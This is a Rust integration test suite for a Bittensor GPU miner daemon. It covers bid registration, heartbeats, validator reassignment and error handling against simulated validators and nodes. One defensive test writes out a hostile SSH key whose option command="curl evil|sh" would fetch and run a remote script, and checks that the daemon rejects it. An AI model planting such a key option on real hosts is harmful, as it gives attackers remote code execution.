//! Generation 2 end to end: `serve` registering at an independent validator (Python grpcio
//! server compiled from proto/, every signature checked with bittensor-wallet), real sshd nodes
//! on distinct loopback addresses with fake GPUs, the chain double for the assignment and the
//! validator's axon IP.

use std::io::{BufRead, BufReader};
use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use basilica_miner::core::identity::wallet::Keypair;
use basilica_miner::testbed::GpuProfile::*;
use basilica_miner::testbed::Testbed;
use serde_json::Value;

use crate::serve::{free_port, http_get, setup_bed, start_with, wait_for};
use crate::support::{sandbox_for, Sandbox};
use basilica_miner::testbed::chain_double::ChainDouble;

/// The Python validator's MinerRegistration server.
pub(crate) struct BidValidator {
    child: Child,
    log: PathBuf,
}

impl BidValidator {
    pub(crate) fn start(
        ip: &str,
        port: u16,
        log: &Path,
        key_file: &Path,
        interval: u32,
        extra: &[&str],
    ) -> BidValidator {
        BidValidator::start_with(Command::new("python3"), ip, port, log, key_file, interval, extra)
    }

    /// [`BidValidator::start`] with `python3` as `cmd` starts it (inside a network namespace,
    /// say).
    pub(crate) fn start_with(
        mut cmd: Command,
        ip: &str,
        port: u16,
        log: &Path,
        key_file: &Path,
        interval: u32,
        extra: &[&str],
    ) -> BidValidator {
        let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/validator/bid_validator.py");
        let mut child = cmd
            .arg(script)
            .args(["--host", ip, "--port", &port.to_string(), "--interval", &interval.to_string()])
            .arg("--log")
            .arg(log)
            .arg("--key-file")
            .arg(key_file)
            .args(extra)
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
        assert!(line.contains("listening"), "bid validator did not start: {line:?}");
        BidValidator { child, log: log.to_path_buf() }
    }

    /// Every line of the validator's log: the miner's requests and the validator's own events.
    pub(crate) fn entries(&self) -> Vec<Value> {
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }

    /// The signed requests the miner sent.
    pub(crate) fn requests(&self) -> Vec<Value> {
        self.entries().into_iter().filter(|r| r["signature_len"].is_number()).collect()
    }

    /// Requests or events of one kind (`RegisterBid`, `Accepted`, `Validation`, ...).
    pub(crate) fn of(&self, method: &str) -> Vec<Value> {
        self.entries().into_iter().filter(|r| r["method"] == method).collect()
    }

    pub(crate) fn stop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Drop for BidValidator {
    fn drop(&mut self) {
        self.stop();
    }
}

pub(crate) fn ips(last: &[u8]) -> Vec<IpAddr> {
    last.iter().map(|l| IpAddr::from([127, 0, 0, *l])).collect()
}

/// `(host, category, count, cents)` of a RegisterBid's nodes.
pub(crate) fn advertised(req: &Value) -> Vec<(String, String, u64, u64)> {
    req["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| {
            (
                n["host"].as_str().unwrap().to_string(),
                n["gpu_category"].as_str().unwrap().to_string(),
                n["gpu_count"].as_u64().unwrap(),
                n["hourly_rate_cents"].as_u64().unwrap(),
            )
        })
        .collect()
}

fn validator_lines(bed: &Testbed) -> Vec<String> {
    bed.nodes
        .iter()
        .flat_map(|n| {
            n.read_authorized_keys()
                .lines()
                .filter(|l| l.contains(" validator-"))
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .collect()
}

/// A sandbox with nodes on 127.0.0.11-13 (H100, A100 with [N/A] sensors, driver down), the
/// chain double assigning them to Alice whose axon is 127.0.0.1, and the bid port.
fn online_setup(double: &ChainDouble, bid_port: u16) -> (Sandbox, Testbed, String, u16, u16) {
    online_setup_at(double, bid_port, "127.0.0.1".parse().unwrap())
}

/// [`online_setup`] with Alice's axon at `axon`.
pub(crate) fn online_setup_at(
    double: &ChainDouble,
    bid_port: u16,
    axon: IpAddr,
) -> (Sandbox, Testbed, String, u16, u16) {
    let bed = Testbed::start_on(&[H100x8, A100NotAvailable, NoDriver], &ips(&[11, 12, 13])).expect("testbed");
    let (s, bed, miner_hotkey, grpc, metrics) = setup_bed(sandbox_for(bed));
    // The A100 node has no rate of its own: its price comes from the static table.
    let a100 = format!(
        "host = \"127.0.0.12\"\nport = {}\nusername = \"{}\"\nhourly_rate_per_gpu = 2.5\n",
        bed.nodes[1].port, bed.nodes[1].username
    );
    s.write("miner.toml", &s.read("miner.toml").replace(&a100, &a100.replace("hourly_rate_per_gpu = 2.5\n", "")));
    bid_config(&s, double, bid_port, axon, &miner_hotkey);
    (s, bed, miner_hotkey, grpc, metrics)
}

/// Turns the sandbox's `miner.toml` to generation 2: the chain double assigns the miner to
/// Alice (highest stake) whose axon is `axon`, the bid port, a health round every 2 s, and
/// static prices.
pub(crate) fn bid_config(s: &Sandbox, double: &ChainDouble, bid_port: u16, axon: IpAddr, miner_hotkey: &str) {
    let alice = Keypair::from_uri("//Alice").unwrap();
    let miner = *basilica_miner::core::identity::ss58::parse(miner_hotkey).unwrap().as_ref();
    double.set_uid(387, miner, 3);
    double.set_neuron_axon(alice.public(), axon);
    double.set_neurons(387, &[(alice.public(), 0, true, vec![900]), (miner, 3, false, vec![1])]);
    let text = s
        .read("miner.toml")
        .replace("strategy = \"fixed_assignment\"", "strategy = \"highest_stake\"")
        .replace(
            "[bittensor]\n",
            &format!("[bittensor]\nchain_endpoint = \"{}\"\nweight_interval_secs = 1\n", double.url),
        )
        .replace("health_check_timeout = 3\n", "health_check_timeout = 3\nhealth_check_interval = 2\n");
    s.write(
        "miner.toml",
        &format!(
            "bid_grpc_port = {bid_port}\n\n{text}\n[bidding.strategy.static.static_prices]\nA100 = 2.50\nH100 = 9.99\n"
        ),
    );
}

#[test]
fn serve_registers_healthy_nodes_heartbeats_and_follows_restarts_and_reloads() {
    let double = ChainDouble::start();
    let bid_port = free_port();
    let (s, bed, miner_hotkey, grpc, metrics) = online_setup(&double, bid_port);
    let alice = Keypair::from_uri("//Alice").unwrap();
    let mut v = BidValidator::start(
        "127.0.0.1",
        bid_port,
        &s.path("bids.jsonl"),
        &s.path("validator_ed25519.pub"),
        2,
        &["--known", &miner_hotkey],
    );
    let d = start_with(&s, grpc, metrics, &["serve"]);

    wait_for("a RegisterBid", &d, 40, || !v.of("RegisterBid").is_empty());
    let first = &v.of("RegisterBid")[0];
    assert_eq!(first["miner_hotkey"], miner_hotkey.as_str());
    assert_eq!(
        advertised(first),
        vec![
            ("127.0.0.11".to_string(), "H100".to_string(), 8, 250),
            ("127.0.0.12".to_string(), "A100".to_string(), 4, 250)
        ],
        "exactly the two healthy nodes; the node whose driver is down is left out\n{}",
        d.log()
    );
    assert!(first["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .all(|n| n["attestation_len"] == 0 && n["port"].as_u64().unwrap() > 0));

    // Waiting for a first check or validation is the daemon's own work (info); a node with a
    // problem, the driverless one, is warned about.
    let log = d.log();
    let warned: Vec<&str> =
        log.lines().filter(|l| l.contains("WARN") && l.contains("node not advertised to the validator")).collect();
    assert!(warned.iter().all(|l| !l.contains("127.0.0.11:") && !l.contains("127.0.0.12:")), "{}", warned.join("\n"));
    assert!(warned.iter().any(|l| l.contains("127.0.0.13:")), "{log}");
    assert!(log.contains("node not advertised yet"), "{log}");

    // The key the validator returned is the one validator line on the nodes, tagged with Alice.
    let key = std::fs::read_to_string(s.path("validator_ed25519.pub")).unwrap();
    let blob = key.split_whitespace().nth(1).unwrap().to_string();
    wait_for("the validator key on the advertised nodes", &d, 20, || {
        bed.nodes[..2].iter().all(|n| n.read_authorized_keys().contains(&format!("{blob} validator-{}", alice.ss58)))
    });
    for n in &bed.nodes[..2] {
        assert_eq!(n.read_authorized_keys().matches(" validator-").count(), 1, "{}", n.read_authorized_keys());
    }

    // Heartbeats at the returned interval (2 s), naming the advertised hosts.
    wait_for("three heartbeats", &d, 20, || v.of("HealthCheck").len() >= 3);
    let beats = v.of("HealthCheck");
    assert_eq!(beats[0]["hosts"], serde_json::json!(["127.0.0.11", "127.0.0.12"]));
    let gaps: Vec<String> = beats
        .windows(2)
        .map(|p| format!("{:.2}", p[1]["at"].as_f64().unwrap() - p[0]["at"].as_f64().unwrap()))
        .collect();
    eprintln!("heartbeat gaps (interval 2 s): {}", gaps.join(", "));
    for pair in beats.windows(2) {
        let gap = pair[1]["at"].as_f64().unwrap() - pair[0]["at"].as_f64().unwrap();
        assert!((1.5..6.0).contains(&gap), "heartbeat gap {gap:.2} s, interval 2 s\n{}", d.log());
    }
    let m = http_get(d.metrics, "/metrics");
    assert!(m.contains(&format!("basilica_miner_bid_registered{{validator=\"{}\"}} 1", alice.ss58)), "{m}");
    assert!(m.contains("basilica_miner_bid_heartbeats_total{result=\"ok\"}"), "{m}");
    assert!(!m.contains("basilica_miner_bid_last_heartbeat_timestamp_seconds 0\n"), "{m}");
    let status = s.run(&["--json", "bid", "status"]).code(0).json();
    assert_eq!(status["registration"]["validator_hotkey"], alice.ss58.as_str());
    assert_eq!(status["registration"]["advertised"].as_array().unwrap().len(), 2);
    assert_eq!(status["registration"]["last_heartbeat_result"], "ok");
    // `status` shows the bid the same way, online with a fresh metagraph; what needs
    // attention is the node whose driver is down, named with its fix.
    let st = s.run(&["--json", "status"]).code(1).json();
    assert_eq!(st["registration"]["registered"], true, "{st:#}");
    assert_eq!(st["registration"]["advertised"].as_array().unwrap().len(), 2);
    assert_eq!(st["registration"]["last_heartbeat_result"], "ok");
    assert_eq!(st["chain"]["online"], true);
    assert!(st["chain"]["metagraph_age_secs"].as_i64().is_some_and(|a| a <= 10), "{st:#}");
    assert_eq!(st["validator"]["hotkey"], alice.ss58.as_str());
    let subjects: Vec<&str> =
        st["attention"].as_array().unwrap().iter().map(|a| a["subject"].as_str().unwrap()).collect();
    assert_eq!(subjects, [st["nodes"][2]["address"].as_str().unwrap()], "{st:#}");
    s.run(&["status"]).code(1).stdout_has("Bidding    gen 2: registered · heartbeat").stdout_has("2/2 nodes active");

    // The validator restarts and forgets everything: the miner registers again soon after.
    v.stop();
    std::thread::sleep(Duration::from_secs(4));
    let before = v.of("RegisterBid").len();
    let back = Instant::now();
    v = BidValidator::start(
        "127.0.0.1",
        bid_port,
        &s.path("bids.jsonl"),
        &s.path("validator_ed25519.pub"),
        2,
        &["--known", &miner_hotkey],
    );
    wait_for("a RegisterBid after the validator came back", &d, 30, || v.of("RegisterBid").len() > before);
    let took = back.elapsed();
    assert!(took < Duration::from_secs(30), "re-registered after {took:?}");
    assert_eq!(advertised(v.of("RegisterBid").last().unwrap()).len(), 2);
    wait_for("the recovery in the log", &d, 10, || d.log().contains("bidding works again"));
    eprintln!("re-registered {took:?} after the validator came back");

    // A price change is an UpdateBid; a node removed with a reload is a RemoveBid for its host.
    let text = s.read("miner.toml").replacen("hourly_rate_per_gpu = 2.5\n", "hourly_rate_per_gpu = 3.0\n", 1);
    s.write("miner.toml", &text);
    let _ = Command::new("kill").args(["-HUP", &d.child.id().to_string()]).status();
    wait_for("an UpdateBid", &d, 20, || !v.of("UpdateBid").is_empty());
    let u = &v.of("UpdateBid")[0];
    assert_eq!((u["host"].as_str(), u["hourly_rate_cents"].as_u64()), (Some("127.0.0.11"), Some(300)));
    s.run(&["--yes", "node", "remove", "127.0.0.12"]).code(0);
    let _ = Command::new("kill").args(["-HUP", &d.child.id().to_string()]).status();
    wait_for("a RemoveBid", &d, 20, || !v.of("RemoveBid").is_empty());
    assert_eq!(v.of("RemoveBid")[0]["hosts"], serde_json::json!(["127.0.0.12"]));
    let beats_before = v.of("HealthCheck").len();
    wait_for("a heartbeat for the one node left", &d, 20, || v.of("HealthCheck").len() > beats_before);
    assert_eq!(v.of("HealthCheck").last().unwrap()["hosts"], serde_json::json!(["127.0.0.11"]));

    // A restarted daemon resumes from the database: it heartbeats the bid it had.
    drop(d);
    let seen = v.requests().len();
    let d = start_with(&s, grpc, metrics, &["serve"]);
    wait_for("a request after the restart", &d, 30, || v.requests().len() > seen);
    assert_eq!(v.requests()[seen]["method"], "HealthCheck", "resumed, not registered again\n{}", d.log());
    assert!(d.log().contains("resuming the bid from the database"), "{}", d.log());

    // Every request of the run was signed by the miner hotkey over the raw payload, and fresh.
    let all = v.requests();
    assert!(all.len() >= 8, "{all:?}");
    for r in &all {
        assert!(
            r["signature_ok"] == true && r["raw_only"] == true && r["fresh"] == true && r["signature_len"] == 64,
            "bad request {r}"
        );
    }
}

#[test]
fn a_hostile_key_from_a_validator_is_never_written_and_registration_is_retried() {
    let bed = Testbed::start_on(&[H100x8, H100x8], &ips(&[21, 22])).expect("testbed");
    let (s, bed, miner_hotkey, grpc, metrics) = setup_bed(sandbox_for(bed));
    let bid_port = free_port();
    // Two keys in one answer, the second with options: a validator trying to plant a shell.
    let key = std::fs::read_to_string(s.path("validator_ed25519.pub")).unwrap();
    let hostile = format!("{}command=\"curl evil|sh\" {}", key, key.trim_end());
    s.write("hostile.pub", &hostile);
    let v = BidValidator::start(
        "127.0.0.1",
        bid_port,
        &s.path("bids.jsonl"),
        &s.path("hostile.pub"),
        2,
        &["--keep-newline"],
    );
    let text = s.read("miner.toml");
    s.write("miner.toml", &format!("{text}\n[bidding]\nvalidator_endpoint = \"http://127.0.0.1:{bid_port}\"\n"));
    let d = start_with(&s, grpc, metrics, &["serve", "--offline"]);
    wait_for("two RegisterBid attempts", &d, 40, || v.of("RegisterBid").len() >= 2);
    wait_for("the refusal in the log", &d, 10, || d.log().contains("was refused; nothing was written"));
    let m = http_get(d.metrics, "/metrics");
    assert!(m.lines().any(|l| l.starts_with("basilica_miner_bid_rejected_keys_total ") && !l.ends_with(" 0")), "{m}");
    assert!(validator_lines(&bed).is_empty(), "{:?}", validator_lines(&bed));
    for n in &bed.nodes {
        assert!(!n.read_authorized_keys().contains("curl"), "{}", n.read_authorized_keys());
    }
    assert!(v.of("HealthCheck").is_empty(), "no heartbeat without an accepted registration");
    let status = s.run(&["--json", "bid", "status"]).code(1).json();
    assert_eq!(status["registered"], false);
    assert!(status["registration"]["last_error"].as_str().unwrap().contains("unacceptable SSH key"), "{status}");
    assert!(http_get(d.metrics, "/metrics").contains("basilica_miner_node_count 2"), "the daemon keeps serving");
    drop(miner_hotkey);
}

#[test]
fn bid_show_lists_what_would_be_advertised_and_why_the_rest_is_not() {
    let bed =
        Testbed::start_on(&[H100x8, A100NotAvailable, NoDriver, Rtx5090x2], &ips(&[31, 32, 33, 34])).expect("testbed");
    let (s, _bed) = sandbox_for(bed);
    // Without a daemon no node was validated yet: each says so and how to run one.
    let stale = s.run(&["--json", "bid", "show"]).code(0).json();
    assert!(stale["advertised"].as_array().unwrap().is_empty(), "{stale}");
    assert!(stale["left_out"][0]["detail"].as_str().unwrap().contains("node test --full"), "{stale}");
    let out = s.run(&["--json", "bid", "show", "--full"]).code(0).json();
    let adv = out["advertised"].as_array().unwrap();
    let got: Vec<(&str, &str, u64, u64)> = adv
        .iter()
        .map(|a| {
            (
                a["host"].as_str().unwrap(),
                a["gpu_category"].as_str().unwrap(),
                a["gpu_count"].as_u64().unwrap(),
                a["hourly_rate_cents"].as_u64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        got,
        vec![("127.0.0.31", "H100", 8, 250), ("127.0.0.32", "A100", 4, 250), ("127.0.0.34", "RTX_5090", 2, 250)],
        "{out}"
    );
    let reasons: Vec<&str> =
        out["left_out"].as_array().unwrap().iter().map(|l| l["reason"].as_str().unwrap()).collect();
    assert_eq!(reasons, vec!["unhealthy"], "{out}");
    s.run(&["bid", "show", "--full"]).code(0).stdout_has("H100 x8").stdout_has("RTX_5090 x2");
    // Two nodes on one IP: warned by node add, node test and config validate.
    s.run(&["node", "add", "--rate", "2", "root@127.0.0.31:2222"])
        .code(0)
        .stderr_has("shares IP 127.0.0.31 with nodes[0]");
    s.run(&["config", "validate"]).stderr_has("shares IP 127.0.0.31");
}

#[test]
fn a_new_assignment_withdraws_at_the_old_validator_and_registers_at_the_new_one() {
    let double = ChainDouble::start();
    let bid_port = free_port();
    let (s, bed, miner_hotkey, grpc, metrics) = online_setup(&double, bid_port);
    let (alice, bob) = (Keypair::from_uri("//Alice").unwrap(), Keypair::from_uri("//Bob").unwrap());
    let miner = *basilica_miner::core::identity::ss58::parse(&miner_hotkey).unwrap().as_ref();
    let bob_key = s.path("bob_ed25519");
    assert!(Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-f"])
        .arg(&bob_key)
        .status()
        .unwrap()
        .success());
    let a =
        BidValidator::start("127.0.0.1", bid_port, &s.path("alice.jsonl"), &s.path("validator_ed25519.pub"), 2, &[]);
    let b = BidValidator::start("127.0.0.2", bid_port, &s.path("bob.jsonl"), &bob_key.with_extension("pub"), 2, &[]);
    let d = start_with(&s, grpc, metrics, &["serve"]);
    wait_for("registration at Alice", &d, 40, || !a.of("HealthCheck").is_empty());
    assert!(b.requests().is_empty());

    // Bob overtakes Alice on chain; his axon is 127.0.0.2.
    double.set_neuron_axon(bob.public(), "127.0.0.2".parse().unwrap());
    double.set_neurons(
        387,
        &[(alice.public(), 0, true, vec![100]), (bob.public(), 1, true, vec![900]), (miner, 3, false, vec![1])],
    );
    wait_for("registration at Bob", &d, 30, || !b.of("RegisterBid").is_empty());
    let removed = a.of("RemoveBid");
    assert_eq!(removed.len(), 1, "everything withdrawn at Alice once: {removed:?}");
    assert_eq!(removed[0]["hosts"], serde_json::json!([]));
    assert_eq!(advertised(&b.of("RegisterBid")[0]).len(), 2);
    let bob_blob =
        std::fs::read_to_string(bob_key.with_extension("pub")).unwrap().split_whitespace().nth(1).unwrap().to_string();
    // Bob's key on the two advertised nodes only; the one whose driver is down gets none.
    wait_for("only Bob's key on the advertised nodes", &d, 30, || {
        let lines = validator_lines(&bed);
        lines.len() == 2
            && lines.iter().all(|l| l.contains(&bob_blob) && l.ends_with(&format!("validator-{}", bob.ss58)))
    });
    assert!(bed.nodes[2].validator_lines().is_empty(), "{:?}", bed.nodes[2].validator_lines());
    let heartbeats_at_alice = a.of("HealthCheck").len();
    wait_for("heartbeats at Bob", &d, 20, || !b.of("HealthCheck").is_empty());
    assert_eq!(a.of("HealthCheck").len(), heartbeats_at_alice, "no heartbeat to the old validator");
    let m = http_get(d.metrics, "/metrics");
    assert!(m.contains(&format!("basilica_miner_bid_registered{{validator=\"{}\"}} 0", alice.ss58)), "{m}");
    assert!(m.contains(&format!("basilica_miner_bid_registered{{validator=\"{}\"}} 1", bob.ss58)), "{m}");
}

#[test]
fn an_unknown_hotkey_is_explained_and_retried_without_stopping_the_daemon() {
    let double = ChainDouble::start();
    let bid_port = free_port();
    let (s, _bed, _miner_hotkey, grpc, metrics) = online_setup(&double, bid_port);
    let v = BidValidator::start(
        "127.0.0.1",
        bid_port,
        &s.path("bids.jsonl"),
        &s.path("validator_ed25519.pub"),
        2,
        &["--known", "5SomebodyElse"],
    );
    let d = start_with(&s, grpc, metrics, &["serve"]);
    wait_for("two RegisterBid attempts", &d, 40, || v.of("RegisterBid").len() >= 2);
    wait_for("the explanation", &d, 10, || d.log().contains("does not know this miner's hotkey"));
    assert!(
        d.log().matches("does not know this miner's hotkey").count() <= 2,
        "repeats are not logged at warn:\n{}",
        d.log()
    );
    let m = http_get(d.metrics, "/metrics");
    assert!(m.contains("basilica_miner_bid_requests_total{method=\"RegisterBid\",result=\"refused\"}"), "{m}");
}
